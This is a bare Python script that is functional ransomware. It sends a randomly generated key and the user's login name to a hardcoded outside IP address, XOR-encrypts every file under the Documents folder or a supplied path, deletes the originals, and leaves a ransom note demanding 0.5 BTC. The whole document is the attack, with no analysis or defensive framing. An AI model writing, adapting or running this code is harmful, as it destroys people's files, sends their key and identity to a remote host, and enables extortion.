import os, sys, secrets, urllib.request

key = secrets.token_bytes(32)
urllib.request.urlopen("http://203.0.113.66/k?id=%s&k=%s" % (os.getlogin(), key.hex()))
root = sys.argv[1] if len(sys.argv) > 1 else os.path.expanduser("~/Documents")
for d, _, files in os.walk(root):
    for f in files:
        p = os.path.join(d, f)
        data = open(p, "rb").read()
        enc = bytes(b ^ key[i % 32] for i, b in enumerate(data))
        open(p + ".locked", "wb").write(enc)
        os.remove(p)
open(os.path.join(root, "README_RESTORE.txt"), "w").write(
    "Your files are encrypted. Send 0.5 BTC to bc1qexampleransomaddr0000000000000 to restore.")
